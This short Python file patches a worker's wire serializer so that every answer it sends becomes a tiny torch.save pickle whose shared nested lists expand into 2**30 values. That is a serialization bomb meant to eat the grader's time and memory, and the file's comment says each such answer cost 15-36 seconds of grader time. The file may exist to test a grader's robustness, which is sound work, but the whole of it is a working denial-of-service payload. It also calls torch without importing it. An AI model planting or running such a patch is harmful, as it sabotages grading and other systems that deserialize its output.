# Patch the worker's writer: every answer becomes a 1.4 KB torch.save pickle whose shared references
# unfold into 2**30 values (what cost 15-36 s of grader time per answer before the wire format).
import io as _io

import blitz.engine.wire as _wire


def _bomb(envelope):
    x = []
    for _ in range(30):
        x = [x, x]
    buffer = _io.BytesIO()
    torch.save({"ok": True, "value": x}, buffer)
    return buffer.getvalue()


_wire.dumps = _bomb
